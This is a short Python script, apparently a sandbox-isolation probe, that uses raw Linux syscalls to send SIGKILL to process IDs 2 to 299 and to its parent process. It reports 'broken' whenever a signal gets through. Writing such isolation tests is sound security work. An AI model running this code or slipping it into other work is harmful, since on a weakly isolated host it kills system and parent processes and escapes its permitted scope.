"""Sends signals by thread, by descriptor and by queue to all numbers.

==========  ======
technique   A13
assignment  linear
status      ran
most        0
==========  ======
"""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
own = os.getpid()
info = ctypes.create_string_buffer(128)
for pid in (*range(2, 300), os.getppid()):
    if pid in (own, 0):
        continue
    for call in ((200, pid, 9), (234, pid, pid, 9), (129, pid, 9, info), (297, pid, pid, 9, info), (434, pid, 0), (424, pid, 9, None, 0)):
        if libc.syscall(*call) >= 0:
            print("broken:", call[:3])
